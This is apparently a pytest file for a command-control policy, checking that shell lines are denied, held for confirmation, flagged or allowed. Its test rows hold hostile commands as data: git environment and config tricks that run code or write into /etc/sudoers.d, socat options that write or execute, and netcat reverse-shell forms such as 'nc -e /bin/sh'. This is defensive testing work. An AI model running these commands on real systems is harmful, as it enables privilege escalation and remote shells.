"""Attack U's open list, items owned by issue 12 (round u3): programs read with the wrong
grammar, each closed as a class. Table rows against the shipped policy (config/policy.toml):
an attack half that must be held or refused, and an honest half that must stay as it was."""

from __future__ import annotations

import pytest

from bastion.command_control.policy import Policy, evaluate


def action(policy: Policy, line: str) -> str:
    return evaluate(policy, line, role="engineer", target="web01").action


@pytest.mark.parametrize(("line", "expected"), [
    # trusting every owner's repositories re-opens settings (hooks, fsmonitor) another user wrote
    ("git -c safe.directory=* status", "confirm"),
    ("git -c 'safe.directory=/home/*' -C /home/other/repo status", "confirm"),
    ("git --config-env=safe.directory=X status", "confirm"),  # its value is known at run time
    ("git --config-env safe.directory=X status", "confirm"),
    ("git config --global --add safe.directory '*'", "confirm"),
    ("git config --global safe.directory '/srv/*'", "confirm"),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0=* git status", "confirm"),
    ("GIT_CONFIG_PARAMETERS=\"'safe.directory'='*'\" git status", "confirm"),
    # the environment's other spellings of git's settings, folders and programs
    ("GIT_CONFIG_GLOBAL=/tmp/gc git status", "confirm"),
    ("GIT_CONFIG_SYSTEM=/tmp/gc git status", "confirm"),
    ("GIT_DIR=/home/other/.git git status", "confirm"),
    ("GIT_EXEC_PATH=/tmp git status", "confirm"),
    ("GIT_WORK_TREE=/etc git checkout -- sudoers", "deny"),
    ("GIT_SSH_COMMAND='cp /tmp/x /etc/sudoers.d/x' git fetch", "deny"),
    ("GIT_PAGER='cp /tmp/x /etc/sudoers.d/x' git log", "deny"),
    ("GIT_EDITOR='cp /tmp/x /etc/sudoers.d/x' git commit", "deny"),
    ("GIT_ASKPASS='cp /tmp/x /etc/sudoers.d/x' git fetch", "deny"),
    ("GIT_EXTERNAL_DIFF='cp /tmp/x /etc/sudoers.d/x' git diff", "deny"),
    # honest halves: one named repository, settings that hold no code
    ("git -c safe.directory=/srv/app -C /srv/app status", "allow"),
    ("git config --global --add safe.directory /srv/app", "allow"),
    ("GIT_PAGER=cat git log", "allow"),
])
def test_attack_u_git_trust_and_environment_spellings(default_policy: Policy, line: str,
                                                      expected: str) -> None:
    assert action(default_policy, line) == expected


@pytest.mark.parametrize(("line", "expected"), [
    # socat's address options naming a file it writes, and its other file addresses
    ("socat - READLINE,history=/etc/sudoers.d/x", "deny"),
    ("socat TCP-LISTEN:80 readline,History-File=/etc/sudoers.d/x", "deny"),
    ("socat - NAMEDPIPE:/etc/sudoers.d/x", "deny"),
    ("socat - namedpipe:/etc/sudoers.d/x", "deny"),
    ("socat - PIPE:/etc/sudoers.d/x", "deny"),
    ("socat - Create:/etc/sudoers.d/x", "deny"),
    ("socat - gopen:/etc/sudoers.d/x", "deny"),
    ("socat - OPEN:/etc/sudoers.d/x,creat", "deny"),
    ("socat - UNIX-L:/etc/sudoers.d/x", "deny"),
    ("socat - TCP:host:80,lockfile=/etc/sudoers.d/x", "deny"),
    ("socat - TCP:host:80,waitlock=/etc/sudoers.d/x", "deny"),
    ("socat STDIO,LockFile=/etc/sudoers.d/x TCP:host:80", "deny"),
    ("socat - PTY,link=/etc/sudoers.d/x", "deny"),
    ("socat - exec:'cp /tmp/x /etc/sudoers.d/x'", "deny"),
    ("socat - SYSTEM:'cp /tmp/x /etc/sudoers.d/x'", "deny"),
    # a command run as another user or under another root: its paths name other files
    ("socat - EXEC:/bin/sh,su=root", "confirm"),
    ("socat - SYSTEM:id,chroot=/tmp/r", "confirm"),
    ("socat - EXEC:id,substuser-delayed=root", "confirm"),
    ("socat - EXEC:id,setuid=0", "confirm"),
    # every netcat's code options, under each of its names
    ("nc.traditional -c 'cp /tmp/x /etc/sudoers.d/x' host 80", "deny"),
    ("netcat.traditional -e /bin/sh host 80", "deny"),
    ("nc.openbsd -e /bin/sh host 80", "deny"),
    ("nc6 -e /bin/sh host 80", "deny"),
    ("cryptcat -e /bin/sh host 80", "deny"),
    ("ncat --sh-exec 'cp /tmp/x /etc/sudoers.d/x' host 80", "deny"),
    ("ncat --sh 'cp /tmp/x /etc/sudoers.d/x' host 80", "deny"),
    ("ncat -c 'cp /tmp/x /etc/sudoers.d/x' host 80", "deny"),
    ("ncat --lua-exec /tmp/x.lua host 80", "confirm"),
    ("busybox nc -lp 80 -e /bin/sh", "deny"),
    # every name of a netcat is a raw connection (the shipped alert)
    ("nc.openbsd -zv host 80", "alert"),
    ("nc.traditional -zv host 80", "alert"),
    ("netcat.openbsd host 80", "alert"),
    ("nc6 host 80", "alert"),
    # honest halves
    ("socat TCP-LISTEN:8080,fork TCP:localhost:80", "alert"),
    ("socat - UNIX-CONNECT:/run/app.sock", "alert"),
    ("socat -u OPEN:/var/log/syslog -", "alert"),
    ("nc -zv host 80", "alert"),
])
def test_attack_u_socat_options_and_every_netcat(default_policy: Policy, line: str,
                                                 expected: str) -> None:
    assert action(default_policy, line) == expected
